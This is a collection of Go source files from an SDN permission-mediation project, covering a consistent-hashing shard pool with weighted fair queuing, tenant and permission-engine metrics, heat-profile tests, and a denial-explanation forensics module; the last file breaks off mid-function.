