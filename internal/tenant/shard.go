package tenant

import (
	"errors"
	"fmt"
	"sync"
	"time"
)

// The shard pool is the scheduling layer of tenancy: tenants are mapped
// to shards by consistent hashing (so a tenant's work always lands on
// the same worker set, and changing the shard count moves only ~1/n of
// tenants), and inside each shard the backlogged tenants are served by
// weighted fair queuing over a virtual clock — a tenant with weight 2
// gets twice the service rate of a weight-1 neighbour while both are
// backlogged, and an idle tenant pays nothing.

// ErrPoolClosed reports a dispatch into a closed pool.
var ErrPoolClosed = errors.New("tenant: shard pool closed")

// fnv64a hashes a tenant ID for shard placement.
func fnv64a(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return h
}

// jumpHash is Lamping–Veach jump consistent hashing: maps key to a
// bucket in [0, buckets) such that growing the bucket count relocates
// only keys that move to the new buckets.
func jumpHash(key uint64, buckets int) int {
	var b, j int64 = -1, 0
	for j < int64(buckets) {
		b = j
		key = key*2862933555777941757 + 1
		j = int64(float64(b+1) * (float64(int64(1)<<31) / float64((key>>33)+1)))
	}
	return int(b)
}

// call is one queued unit of work and its completion signal. enq stamps
// arrival so the dequeue can account backlog residency.
type call struct {
	fn   func()
	done chan struct{}
	enq  time.Time
}

// flow is one tenant's backlog within a shard. vt is the virtual finish
// time of the flow's head call; the shard's heap orders backlogged flows
// by it. Flows are created on first arrival and deleted when they drain,
// so the map is bounded by the number of *backlogged* tenants.
type flow struct {
	key     string
	weight  float64
	vt      float64
	calls   []*call
	heapIdx int
}

// shard is one worker set's queue state. The trailing counters are the
// shard's WFQ telemetry (all guarded by mu, which the dispatch path
// already holds where they are touched): cumulative arrivals and
// completions, total backlog-residency time, and an EWMA of recent
// residency so /tenants/shards shows "queue wait right now" rather than
// a lifetime average.
type shard struct {
	mu     sync.Mutex
	cond   *sync.Cond
	vtime  float64
	heap   []*flow
	flows  map[string]*flow
	depth  int // queued (not yet started) calls, for introspection
	closed bool

	enqueued  uint64
	completed uint64
	waitNs    uint64
	ewmaNs    float64
}

// residencyAlpha is the EWMA smoothing factor for backlog residency.
const residencyAlpha = 0.125

// ShardPool runs tenant work across a fixed set of shards, each with its
// own worker pool and weighted-fair queue.
type ShardPool struct {
	shards []*shard
	wg     sync.WaitGroup
}

// NewShardPool builds a pool of `shards` shards (min 1) with `workers`
// goroutines each (min 1).
func NewShardPool(shards, workers int) *ShardPool {
	if shards < 1 {
		shards = 1
	}
	if workers < 1 {
		workers = 1
	}
	p := &ShardPool{shards: make([]*shard, shards)}
	for i := range p.shards {
		sh := &shard{flows: make(map[string]*flow)}
		sh.cond = sync.NewCond(&sh.mu)
		p.shards[i] = sh
		for w := 0; w < workers; w++ {
			p.wg.Add(1)
			go p.worker(sh)
		}
	}
	return p
}

// Shards returns the pool's shard count.
func (p *ShardPool) Shards() int { return len(p.shards) }

// ShardOf returns the shard a key consistently maps to.
func (p *ShardPool) ShardOf(key string) int { return jumpHash(fnv64a(key), len(p.shards)) }

// Depth returns one shard's queued-call count (not counting running
// calls) — the shard backlog gauge.
func (p *ShardPool) Depth(i int) int {
	if i < 0 || i >= len(p.shards) {
		return 0
	}
	sh := p.shards[i]
	sh.mu.Lock()
	defer sh.mu.Unlock()
	return sh.depth
}

// Run executes fn on the shard owning key, after weighted fair queuing
// against the shard's other backlogged flows, and blocks until fn
// returns. maxQueue > 0 bounds the flow's own backlog: arrival beyond it
// is refused with an error (the caller surfaces throttling) instead of
// queuing unboundedly.
func (p *ShardPool) Run(key string, weight float64, maxQueue int, fn func()) error {
	if weight <= 0 {
		weight = 1
	}
	sh := p.shards[p.ShardOf(key)]
	c := &call{fn: fn, done: make(chan struct{}), enq: time.Now()}
	sh.mu.Lock()
	if sh.closed {
		sh.mu.Unlock()
		return ErrPoolClosed
	}
	f, ok := sh.flows[key]
	if !ok {
		f = &flow{key: key, weight: weight, heapIdx: -1}
		sh.flows[key] = f
	}
	f.weight = weight
	if maxQueue > 0 && len(f.calls) >= maxQueue {
		sh.mu.Unlock()
		return fmt.Errorf("tenant: flow %s backlog at %d", key, maxQueue)
	}
	if f.heapIdx < 0 {
		// Newly backlogged: its head call finishes 1/weight virtual time
		// after the later of now and its own last finish.
		if f.vt < sh.vtime {
			f.vt = sh.vtime
		}
		f.vt += 1 / f.weight
		sh.heapPush(f)
	}
	f.calls = append(f.calls, c)
	sh.depth++
	sh.enqueued++
	sh.cond.Signal()
	sh.mu.Unlock()
	<-c.done
	return nil
}

// worker serves one shard: pop the minimum-virtual-finish-time flow's
// head call, advance the clocks, run it.
func (p *ShardPool) worker(sh *shard) {
	defer p.wg.Done()
	for {
		sh.mu.Lock()
		for len(sh.heap) == 0 && !sh.closed {
			sh.cond.Wait()
		}
		if len(sh.heap) == 0 && sh.closed {
			sh.mu.Unlock()
			return
		}
		f := sh.heap[0]
		c := f.calls[0]
		f.calls = f.calls[1:]
		sh.depth--
		wait := float64(time.Since(c.enq).Nanoseconds())
		sh.completed++
		sh.waitNs += uint64(wait)
		sh.ewmaNs += (wait - sh.ewmaNs) * residencyAlpha
		sh.vtime = f.vt
		if len(f.calls) > 0 {
			f.vt += 1 / f.weight
			sh.heapFix(0)
		} else {
			sh.heapPop()
			delete(sh.flows, f.key)
		}
		sh.mu.Unlock()
		runCall(c)
	}
}

// runCall executes one call, converting a panic into completion so a
// buggy callee cannot wedge its submitter (who is blocked on done).
func runCall(c *call) {
	defer close(c.done)
	defer func() { _ = recover() }()
	c.fn()
}

// Close refuses new dispatches, lets the workers drain every queued
// call, and waits for them to exit.
func (p *ShardPool) Close() {
	for _, sh := range p.shards {
		sh.mu.Lock()
		sh.closed = true
		sh.cond.Broadcast()
		sh.mu.Unlock()
	}
	p.wg.Wait()
}

// ---------------------------------------------------------------------------
// WFQ telemetry

// ShardStat is one shard's live scheduling state, the /tenants/shards
// introspection unit.
type ShardStat struct {
	// Shard is the shard index.
	Shard int `json:"shard"`
	// Depth is the queued-not-yet-started call count right now.
	Depth int `json:"depth"`
	// BackloggedFlows is how many tenants currently hold a backlog here.
	BackloggedFlows int `json:"backlogged_flows"`
	// Enqueued and Completed are cumulative call counts.
	Enqueued  uint64 `json:"enqueued"`
	Completed uint64 `json:"completed"`
	// VirtualTime is the shard's WFQ clock.
	VirtualTime float64 `json:"virtual_time"`
	// VirtualTimeLag is the spread between the furthest backlogged
	// flow's head finish time and the shard clock — how far the fair
	// scheduler is running behind its most-delayed tenant. 0 when idle.
	VirtualTimeLag float64 `json:"virtual_time_lag"`
	// ResidencyEWMAMicros is the smoothed backlog residency (enqueue →
	// dequeue) of recent calls, in microseconds.
	ResidencyEWMAMicros float64 `json:"residency_ewma_us"`
	// ResidencyAvgMicros is the lifetime average backlog residency, in
	// microseconds.
	ResidencyAvgMicros float64 `json:"residency_avg_us"`
}

// ShardStats snapshots every shard's scheduling state.
func (p *ShardPool) ShardStats() []ShardStat {
	out := make([]ShardStat, len(p.shards))
	for i, sh := range p.shards {
		sh.mu.Lock()
		st := ShardStat{
			Shard:               i,
			Depth:               sh.depth,
			BackloggedFlows:     len(sh.flows),
			Enqueued:            sh.enqueued,
			Completed:           sh.completed,
			VirtualTime:         sh.vtime,
			ResidencyEWMAMicros: sh.ewmaNs / 1e3,
		}
		for _, f := range sh.heap {
			if lag := f.vt - sh.vtime; lag > st.VirtualTimeLag {
				st.VirtualTimeLag = lag
			}
		}
		if sh.completed > 0 {
			st.ResidencyAvgMicros = float64(sh.waitNs) / float64(sh.completed) / 1e3
		}
		sh.mu.Unlock()
		out[i] = st
	}
	return out
}

// Imbalance gauges how unevenly the consistent hash spread load across
// shards, over cumulative arrivals: max/mean − 1, so 0 is perfectly
// even and 1 means the hottest shard saw twice the mean. 0 before any
// work arrives.
func (p *ShardPool) Imbalance() float64 {
	var max, sum uint64
	for _, sh := range p.shards {
		sh.mu.Lock()
		e := sh.enqueued
		sh.mu.Unlock()
		sum += e
		if e > max {
			max = e
		}
	}
	if sum == 0 {
		return 0
	}
	mean := float64(sum) / float64(len(p.shards))
	return float64(max)/mean - 1
}

// ---------------------------------------------------------------------------
// Min-heap of flows by virtual finish time. Hand-rolled over the shard's
// slice so heapIdx stays coherent without container/heap's interface
// indirection on the dispatch hot path.

func (sh *shard) heapPush(f *flow) {
	f.heapIdx = len(sh.heap)
	sh.heap = append(sh.heap, f)
	sh.heapUp(f.heapIdx)
}

func (sh *shard) heapPop() *flow {
	f := sh.heap[0]
	last := len(sh.heap) - 1
	sh.heap[0] = sh.heap[last]
	sh.heap[0].heapIdx = 0
	sh.heap = sh.heap[:last]
	if last > 0 {
		sh.heapDown(0)
	}
	f.heapIdx = -1
	return f
}

func (sh *shard) heapFix(i int) {
	sh.heapDown(i)
	sh.heapUp(i)
}

func (sh *shard) heapUp(i int) {
	for i > 0 {
		parent := (i - 1) / 2
		if sh.heap[parent].vt <= sh.heap[i].vt {
			break
		}
		sh.heapSwap(parent, i)
		i = parent
	}
}

func (sh *shard) heapDown(i int) {
	n := len(sh.heap)
	for {
		left, small := 2*i+1, i
		if left < n && sh.heap[left].vt < sh.heap[small].vt {
			small = left
		}
		if right := left + 1; right < n && sh.heap[right].vt < sh.heap[small].vt {
			small = right
		}
		if small == i {
			return
		}
		sh.heapSwap(i, small)
		i = small
	}
}

func (sh *shard) heapSwap(i, k int) {
	sh.heap[i], sh.heap[k] = sh.heap[k], sh.heap[i]
	sh.heap[i].heapIdx = i
	sh.heap[k].heapIdx = k
}
