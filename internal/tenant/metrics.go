package tenant

import (
	"strconv"

	"sdnshield/internal/obs"
)

// Per-manager metric families. The tenant label rides through a
// cardinality guard (obs.LabelGuard): the first Config.MetricTenants
// distinct tenants get their own series, the rest fold into
// tenant="_other" — so a tenant-ID flood cannot grow the registry
// without bound. Each tenant's label value is resolved once at
// construction, not per call.
type metrics struct {
	reg   *obs.Registry
	guard *obs.LabelGuard

	resident   *obs.Gauge
	evictions  *obs.Counter
	hydrations *obs.Counter
}

func newMetrics(reg *obs.Registry, maxTenants int, pool *ShardPool) *metrics {
	m := &metrics{
		reg:   reg,
		guard: obs.NewLabelGuard(maxTenants),
		resident: reg.Gauge("sdnshield_tenant_resident",
			"Tenants currently hydrated in memory."),
		evictions: reg.Counter("sdnshield_tenant_evictions_total",
			"Tenants evicted (idle sweep, LRU pressure, or explicit)."),
		hydrations: reg.Counter("sdnshield_tenant_hydrations_total",
			"Tenants hydrated from the on-disk store."),
	}
	for i := 0; i < pool.Shards(); i++ {
		shard := i
		m.reg.GaugeFunc("sdnshield_tenant_shard_depth",
			"Queued tenant calls per shard.",
			func() float64 { return float64(pool.Depth(shard)) },
			"shard", strconv.Itoa(shard))
	}
	m.reg.GaugeFunc("sdnshield_tenant_shard_imbalance",
		"Shard load imbalance over cumulative arrivals: max/mean - 1 (0 is even).",
		pool.Imbalance)
	return m
}

// tenantMetrics is one tenant's pre-resolved series.
type tenantMetrics struct {
	label             string // guarded label value
	calls             *obs.Counter
	callSeconds       *obs.Histogram
	throttledCalls    *obs.Counter
	throttledInstalls *obs.Counter
}

func (m *metrics) forTenant(id string) *tenantMetrics {
	label := m.guard.Value(id)
	return &tenantMetrics{
		label: label,
		calls: m.reg.Counter("sdnshield_tenant_calls_total",
			"Mediated calls admitted per tenant.", "tenant", label),
		callSeconds: m.reg.Histogram("sdnshield_tenant_call_seconds",
			"Mediated-call latency per tenant.", "tenant", label),
		throttledCalls: m.reg.Counter("sdnshield_tenant_throttled_total",
			"Admission refusals per tenant and path.", "tenant", label, "path", "call"),
		throttledInstalls: m.reg.Counter("sdnshield_tenant_throttled_total",
			"Admission refusals per tenant and path.", "tenant", label, "path", "install"),
	}
}
