package permengine

import (
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// heatTestSampling forces sampling 1 (every check instrumented) for the
// duration of a test and restores the previous globals.
func heatTestSampling(t *testing.T) {
	t.Helper()
	prevEnabled := SetHeatEnabled(true)
	prevEvery := SetHeatSampling(1)
	t.Cleanup(func() {
		SetHeatEnabled(prevEnabled)
		SetHeatSampling(prevEvery)
	})
}

// tokenHeatOf digs one (app, token) heat snapshot out of a profile.
func tokenHeatOf(t *testing.T, p HeatProfile, app string, tok core.Token) TokenHeat {
	t.Helper()
	for _, a := range p.Apps {
		if a.App != app {
			continue
		}
		for _, th := range a.Tokens {
			if th.Token == tok.String() {
				return th
			}
		}
	}
	t.Fatalf("no heat for (%s, %s) in %+v", app, tok, p.Apps)
	return TokenHeat{}
}

// TestHeatClauseDecomposition: the heat profile decomposes a filter
// into its top-level AND-conjuncts in source order, each with its
// filter dimensions.
func TestHeatClauseDecomposition(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse(
		"PERM insert_flow LIMITING MAX_PRIORITY 100 AND ACTION FORWARD AND OWN_FLOWS").Set())
	th := tokenHeatOf(t, e.HeatSnapshot(), "m", core.TokenInsertFlow)
	if len(th.Clauses) != 3 {
		t.Fatalf("clauses = %d, want 3: %+v", len(th.Clauses), th.Clauses)
	}
	for i, cl := range th.Clauses {
		if cl.Index != i {
			t.Fatalf("clause %d has index %d", i, cl.Index)
		}
		if cl.Expr == "" || len(cl.Dimensions) == 0 {
			t.Fatalf("clause %d lacks expr/dimensions: %+v", i, cl)
		}
	}
	// An unconditional grant profiles as a single always-true clause or
	// no clauses at all — but never panics on snapshot.
	e.SetPermissions("u", permlang.MustParse("PERM read_statistics").Set())
	_ = e.HeatSnapshot()
}

// TestHeatCountsAtSamplingOne: with every check instrumented, the heat
// counters are exact — allow/deny totals, per-clause evals, pass/fail
// splits and short-circuit counts all reconcile with the driven load.
func TestHeatCountsAtSamplingOne(t *testing.T) {
	heatTestSampling(t)
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse(
		"PERM insert_flow LIMITING MAX_PRIORITY 100 AND ACTION FORWARD").Set())

	allow := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	allow.Priority = 50
	deny := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	deny.Priority = 200 // fails clause 0, short-circuits clause 1

	const allows, denies = 7, 3
	for i := 0; i < allows; i++ {
		if err := e.Check(allow); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < denies; i++ {
		if err := e.Check(deny); err == nil {
			t.Fatal("deny call allowed")
		}
	}

	th := tokenHeatOf(t, e.HeatSnapshot(), "m", core.TokenInsertFlow)
	if th.Allow != allows || th.Deny != denies {
		t.Fatalf("allow/deny = %d/%d, want %d/%d", th.Allow, th.Deny, allows, denies)
	}
	c0, c1 := th.Clauses[0], th.Clauses[1]
	if c0.Evals != allows+denies || c0.Pass != allows || c0.Fail != denies {
		t.Fatalf("clause 0 = %+v", c0)
	}
	if c1.Evals != allows || c1.Pass != allows || c1.ShortCircuits != denies {
		t.Fatalf("clause 1 = %+v", c1)
	}
	var lat uint64
	lat = c0.Latency.LE256ns + c0.Latency.LE1us + c0.Latency.LE4us +
		c0.Latency.LE16us + c0.Latency.LE64us + c0.Latency.GT64us
	if lat != c0.Evals {
		t.Fatalf("clause 0 latency brackets sum %d, want %d evals", lat, c0.Evals)
	}
}

// TestHeatDenialTaxonomy: no-manifest and token-ungranted denials are
// counted in their own buckets, not against any clause.
func TestHeatDenialTaxonomy(t *testing.T) {
	heatTestSampling(t)
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics").Set())
	if err := e.Check(&core.Call{App: "ghost", Token: core.TokenReadStatistics}); err == nil {
		t.Fatal("ghost app allowed")
	}
	if err := e.Check(&core.Call{App: "m", Token: core.TokenInsertFlow}); err == nil {
		t.Fatal("ungranted token allowed")
	}
	p := e.HeatSnapshot()
	if p.NoManifest != 1 || p.Ungranted != 1 {
		t.Fatalf("denial taxonomy: no_manifest=%d ungranted=%d", p.NoManifest, p.Ungranted)
	}
}

// TestHeatSamplingToggle: disabled heat records nothing; re-enabling
// resumes recording on the retained counters; SetPermissions resets the
// profile (a new set is a new profile).
func TestHeatSamplingToggle(t *testing.T) {
	prevEnabled := SetHeatEnabled(false)
	prevEvery := SetHeatSampling(1)
	defer func() {
		SetHeatEnabled(prevEnabled)
		SetHeatSampling(prevEvery)
	}()

	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics LIMITING PORT_LEVEL").Set())
	call := &core.Call{App: "m", Token: core.TokenReadStatistics, StatsLevel: of.StatsPort}
	if err := e.Check(call); err != nil {
		t.Fatal(err)
	}
	th := tokenHeatOf(t, e.HeatSnapshot(), "m", core.TokenReadStatistics)
	if th.Allow != 0 {
		t.Fatalf("disabled heat recorded %d allows", th.Allow)
	}

	SetHeatEnabled(true)
	if err := e.Check(call); err != nil {
		t.Fatal(err)
	}
	th = tokenHeatOf(t, e.HeatSnapshot(), "m", core.TokenReadStatistics)
	if th.Allow != 1 {
		t.Fatalf("enabled heat recorded %d allows, want 1", th.Allow)
	}

	// Replacing the permission set resets the profile.
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics LIMITING PORT_LEVEL").Set())
	th = tokenHeatOf(t, e.HeatSnapshot(), "m", core.TokenReadStatistics)
	if th.Allow != 0 {
		t.Fatalf("profile survived SetPermissions: %d allows", th.Allow)
	}
}

func TestHeatBracketIdx(t *testing.T) {
	cases := []struct {
		ns   int64
		want int
	}{
		{0, 0}, {256, 0}, {257, 1}, {1024, 1}, {4096, 2},
		{16384, 3}, {65536, 4}, {65537, 5}, {1 << 30, 5},
	}
	for _, c := range cases {
		if got := heatBracketIdx(c.ns); got != c.want {
			t.Errorf("heatBracketIdx(%d) = %d, want %d", c.ns, got, c.want)
		}
	}
}

// TestHeatEngineRegistry: shields register their engines for the /heat
// and /explain surfaces; unregister removes them.
func TestHeatEngineRegistry(t *testing.T) {
	e := New(nil)
	unreg := RegisterEngine("heat-test-engine", e)
	if got := RegisteredEngines()["heat-test-engine"]; got != e {
		t.Fatal("engine not registered")
	}
	unreg()
	if _, ok := RegisteredEngines()["heat-test-engine"]; ok {
		t.Fatal("engine still registered after unregister")
	}
}
