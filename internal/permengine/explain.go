package permengine

// /explain forensics: re-evaluate a call off the hot path and return the
// full decision path — which clause matched, which filter failed, which
// reconciliation repair introduced the deciding term — cross-linked to
// the audit correlation ID of the original denial. The engine retains a
// bounded ring of recent denied calls so an operator holding a denial's
// corr (from /audit or a DeniedError) can ask "why exactly?" minutes
// later, and a POST surface lets them probe hypothetical calls against
// the live compiled policy.

import (
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
)

// Explanation reasons.
const (
	ReasonAllowed        = "allowed"
	ReasonNoManifest     = "no_manifest"
	ReasonTokenUngranted = "token_not_granted"
	ReasonFilterRejected = "filter_rejected"
)

// LeafExplain is one filter's verdict inside a clause, with the vacuous
// truth and negation bookkeeping spelled out: Effective is what the leaf
// contributed to the expression (true when inapplicable, else Matched
// XOR Negated).
type LeafExplain struct {
	Filter     string `json:"filter"`
	Dimension  string `json:"dimension"`
	Negated    bool   `json:"negated,omitempty"`
	Applicable bool   `json:"applicable"`
	Matched    bool   `json:"matched"`
	Effective  bool   `json:"effective"`
}

// ClauseExplain is one top-level conjunct's verdict. ShortCircuited
// clauses were never evaluated because an earlier clause already failed
// (the compiled engine's && chain stops there too).
type ClauseExplain struct {
	Index          int           `json:"index"`
	Expr           string        `json:"expr"`
	Dimensions     []string      `json:"dimensions"`
	Evaluated      bool          `json:"evaluated"`
	Passed         bool          `json:"passed"`
	ShortCircuited bool          `json:"short_circuited,omitempty"`
	Leaves         []LeafExplain `json:"leaves,omitempty"`
}

// Explanation is the full decision path of one permission check.
type Explanation struct {
	App     string `json:"app"`
	Token   string `json:"token"`
	Call    string `json:"call"`
	Corr    uint64 `json:"corr,omitempty"`
	Allowed bool   `json:"allowed"`
	Reason  string `json:"reason"`
	Detail  string `json:"detail,omitempty"`
	// Granted lists the tokens the app does hold, populated on
	// token_not_granted denials.
	Granted []string        `json:"granted_tokens,omitempty"`
	Clauses []ClauseExplain `json:"clauses,omitempty"`
	// FailingClauses indexes the clauses that rejected the call (for the
	// compiled conjunction that is always exactly one, the first failure).
	FailingClauses []int `json:"failing_clauses,omitempty"`
	// Provenance carries the app's reconciliation repair notes — the
	// terms the market's reconciler added or rewrote to make the
	// requested manifest admissible.
	Provenance []string `json:"provenance,omitempty"`
	// DecidingRepair is the first provenance note that mentions the
	// failing clause or one of its failing filters: the repair that
	// introduced the deciding term, when reconciliation did.
	DecidingRepair string `json:"deciding_repair,omitempty"`
}

// Explain re-evaluates the call against the app's compiled permission
// set with full bookkeeping. The verdict is produced by the same
// compiled clause closures the hot path runs, so Explanation.Allowed
// cannot disagree with Check; the per-leaf detail rides a parallel
// interpretive walk. Explain resolves stateful attributes like Check
// does and is safe to call concurrently with live traffic.
func (e *Engine) Explain(call *core.Call) Explanation {
	ex := Explanation{
		App:        call.App,
		Token:      call.Token.String(),
		Corr:       call.Corr,
		Provenance: e.Provenance(call.App),
	}
	e.mu.RLock()
	c, ok := e.apps[call.App]
	e.mu.RUnlock()
	if !ok {
		ex.Call = call.String()
		ex.Reason = ReasonNoManifest
		ex.Detail = "app has no permission manifest"
		return ex
	}
	th := c.heat[call.Token]
	if th == nil {
		ex.Call = call.String()
		ex.Reason = ReasonTokenUngranted
		ex.Detail = "token not granted"
		for tok := range c.checkers {
			ex.Granted = append(ex.Granted, tok.String())
		}
		sort.Strings(ex.Granted)
		return ex
	}
	e.Resolve(call)
	ex.Call = call.String()
	failed := false
	for i := range th.clauses {
		cl := &th.clauses[i]
		ce := ClauseExplain{Index: i, Expr: cl.expr, Dimensions: cl.dims}
		if failed {
			ce.ShortCircuited = true
			ex.Clauses = append(ex.Clauses, ce)
			continue
		}
		ce.Evaluated = true
		ce.Passed = cl.check(call)
		explainLeaves(cl.raw, call, false, &ce.Leaves)
		if !ce.Passed {
			failed = true
			ex.FailingClauses = append(ex.FailingClauses, i)
		}
		ex.Clauses = append(ex.Clauses, ce)
	}
	if failed {
		ex.Reason = ReasonFilterRejected
		ex.Detail = "filter rejected call " + call.String()
		ex.DecidingRepair = decidingRepair(&ex)
		return ex
	}
	ex.Allowed = true
	ex.Reason = ReasonAllowed
	return ex
}

// explainLeaves walks an expression with negation pushed to the leaves
// (mirroring compile/evalExpr), appending one LeafExplain per filter.
// Unlike the compiled closures it does not short-circuit: forensics
// wants every leaf's verdict, and off the hot path the extra tests are
// free. The returned value equals the expression's verdict.
func explainLeaves(e core.Expr, call *core.Call, neg bool, out *[]LeafExplain) bool {
	switch v := e.(type) {
	case nil:
		return true
	case *core.Leaf:
		matched, applicable := v.F.Test(call)
		eff := !applicable || (matched != neg)
		*out = append(*out, LeafExplain{
			Filter:     v.F.String(),
			Dimension:  v.F.Dimension(),
			Negated:    neg,
			Applicable: applicable,
			Matched:    matched,
			Effective:  eff,
		})
		return eff
	case *core.Not:
		return explainLeaves(v.X, call, !neg, out)
	case *core.And:
		l := explainLeaves(v.L, call, neg, out)
		r := explainLeaves(v.R, call, neg, out)
		if neg { // ¬(L∧R) = ¬L ∨ ¬R
			return l || r
		}
		return l && r
	case *core.Or:
		l := explainLeaves(v.L, call, neg, out)
		r := explainLeaves(v.R, call, neg, out)
		if neg { // ¬(L∨R) = ¬L ∧ ¬R
			return l && r
		}
		return l || r
	case *core.MacroRef:
		*out = append(*out, LeafExplain{
			Filter:     v.Name,
			Dimension:  "macro",
			Negated:    neg,
			Applicable: true,
			Matched:    false,
			Effective:  false,
		})
		return false
	default:
		return false
	}
}

// decidingRepair scans the provenance notes for the first one mentioning
// a failing clause's expression or one of its ineffective filters —
// best-effort string matching, since reconcile reports repairs in
// rendered permission-language.
func decidingRepair(ex *Explanation) string {
	if len(ex.Provenance) == 0 {
		return ""
	}
	var needles []string
	for _, i := range ex.FailingClauses {
		cl := ex.Clauses[i]
		needles = append(needles, cl.Expr)
		for _, lf := range cl.Leaves {
			if !lf.Effective {
				needles = append(needles, lf.Filter)
			}
		}
	}
	for _, note := range ex.Provenance {
		for _, n := range needles {
			if n != "" && n != "*" && strings.Contains(note, n) {
				return note
			}
		}
	}
	return ""
}

// ---------------------------------------------------------------------------
// Reconciliation provenance

// SetProvenance records the reconciliation repair notes attached to the
// app's active permission set (the market passes its reconcile
// violations here at activation). An empty list clears them.
func (e *Engine) SetProvenance(app string, notes []string) {
	e.provMu.Lock()
	defer e.provMu.Unlock()
	if len(notes) == 0 {
		delete(e.prov, app)
		return
	}
	if e.prov == nil {
		e.prov = make(map[string][]string)
	}
	e.prov[app] = append([]string(nil), notes...)
}

// Provenance returns the app's reconciliation repair notes.
func (e *Engine) Provenance(app string) []string {
	e.provMu.Lock()
	defer e.provMu.Unlock()
	return append([]string(nil), e.prov[app]...)
}

// ---------------------------------------------------------------------------
// Denial retention

// denialRingSize bounds the retained-denial ring.
const denialRingSize = 256

// explainRetention gates denial retention (default on). Retention costs
// one mutexed copy per denial — nothing on the allowed path.
var explainRetention atomic.Bool

func init() { explainRetention.Store(true) }

// SetExplainRetention flips denial retention for /explain?corr= lookups
// and returns the previous state.
func SetExplainRetention(v bool) bool { return explainRetention.Swap(v) }

type retainedDenial struct {
	call core.Call
	at   time.Time
}

type denialRing struct {
	mu  sync.Mutex
	buf [denialRingSize]retainedDenial
	n   uint64
}

// retainDenial copies the denied call into the forensic ring. Calls
// without a correlation ID (kernel-internal probes, micro-benchmarks)
// are not retained — nothing could look them up.
func (e *Engine) retainDenial(call *core.Call) {
	if call.Corr == 0 || !explainRetention.Load() {
		return
	}
	cp := *call
	if call.Match != nil {
		cp.Match = call.Match.Clone()
	}
	if len(call.Actions) > 0 {
		cp.Actions = append([]of.Action(nil), call.Actions...)
	}
	if len(call.Switches) > 0 {
		cp.Switches = append([]of.DPID(nil), call.Switches...)
	}
	if len(call.Links) > 0 {
		cp.Links = append([]core.LinkID(nil), call.Links...)
	}
	r := &e.denialRing
	r.mu.Lock()
	r.buf[r.n%denialRingSize] = retainedDenial{call: cp, at: time.Now()}
	r.n++
	r.mu.Unlock()
}

// RetainedDenial looks a denied call up by its correlation ID, newest
// first, returning a private copy.
func (e *Engine) RetainedDenial(corr uint64) (*core.Call, bool) {
	r := &e.denialRing
	r.mu.Lock()
	defer r.mu.Unlock()
	n := r.n
	span := uint64(denialRingSize)
	if n < span {
		span = n
	}
	for i := uint64(1); i <= span; i++ {
		rd := &r.buf[(n-i)%denialRingSize]
		if rd.call.Corr == corr {
			cp := rd.call
			return &cp, true
		}
	}
	return nil, false
}

// RetainedDenialInfo summarizes one retained denial for the /explain
// index view.
type RetainedDenialInfo struct {
	Corr  uint64    `json:"corr"`
	App   string    `json:"app"`
	Token string    `json:"token"`
	Call  string    `json:"call"`
	Time  time.Time `json:"time"`
}

// RetainedDenials lists the retained denials, newest first, capped at
// limit (0 means all).
func (e *Engine) RetainedDenials(limit int) []RetainedDenialInfo {
	r := &e.denialRing
	r.mu.Lock()
	defer r.mu.Unlock()
	n := r.n
	span := uint64(denialRingSize)
	if n < span {
		span = n
	}
	out := make([]RetainedDenialInfo, 0, span)
	for i := uint64(1); i <= span; i++ {
		if limit > 0 && len(out) >= limit {
			break
		}
		rd := &r.buf[(n-i)%denialRingSize]
		out = append(out, RetainedDenialInfo{
			Corr:  rd.call.Corr,
			App:   rd.call.App,
			Token: rd.call.Token.String(),
			Call:  rd.call.String(),
			Time:  rd.at,
		})
	}
	return out
}

// ---------------------------------------------------------------------------
// Engine registry

// Engines register under a stable name (the shield's health-provider
// name) so the /heat and /explain endpoints can address them; processes
// running several engines side by side (benchmarks, baseline-vs-shield
// harnesses) expose each under its own name.
var (
	engRegMu sync.Mutex
	engReg   = make(map[string]*Engine)
)

// RegisterEngine publishes the engine for the introspection endpoints
// and returns its unregister function. Registering an existing name
// replaces it.
func RegisterEngine(name string, e *Engine) (unregister func()) {
	engRegMu.Lock()
	engReg[name] = e
	engRegMu.Unlock()
	return func() {
		engRegMu.Lock()
		if engReg[name] == e {
			delete(engReg, name)
		}
		engRegMu.Unlock()
	}
}

// RegisteredEngines snapshots the engine registry.
func RegisteredEngines() map[string]*Engine {
	engRegMu.Lock()
	defer engRegMu.Unlock()
	out := make(map[string]*Engine, len(engReg))
	for n, e := range engReg {
		out[n] = e
	}
	return out
}
