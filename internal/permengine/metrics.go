package permengine

import (
	"sdnshield/internal/core"
	"sdnshield/internal/obs"
)

// Permission-engine instrumentation. Per-token allow/deny counters are
// pre-built into arrays indexed by core.Token so the Check hot path never
// touches a map or lock to find its counter.
var (
	mCheckSeconds = obs.Default().Histogram("sdnshield_permengine_check_seconds",
		"Permission check latency (compile-once closure evaluation plus stateful attribute resolution).")
	mAPIPanics = obs.Default().Counter("sdnshield_permengine_api_panics_total",
		"Panics absorbed inside mediated API calls.")
	mActivityRecords = obs.Default().Counter("sdnshield_permengine_activity_records_total",
		"Decisions appended to the forensic activity log.")

	mChecksAllow [maxTokenSlots]*obs.Counter
	mChecksDeny  [maxTokenSlots]*obs.Counter

	// checkSampler picks the 1-in-N checks whose latency is measured.
	checkSampler obs.Sampler
)

// maxTokenSlots bounds the token-indexed counter arrays; core.Token is a
// uint8 with far fewer than 64 values.
const maxTokenSlots = 64

func init() {
	for _, tok := range core.AllTokens() {
		if int(tok) >= maxTokenSlots {
			continue
		}
		mChecksAllow[tok] = obs.Default().Counter("sdnshield_permengine_checks_total",
			"Permission checks by token and decision.", "token", tok.String(), "decision", "allow")
		mChecksDeny[tok] = obs.Default().Counter("sdnshield_permengine_checks_total",
			"Permission checks by token and decision.", "token", tok.String(), "decision", "deny")
	}
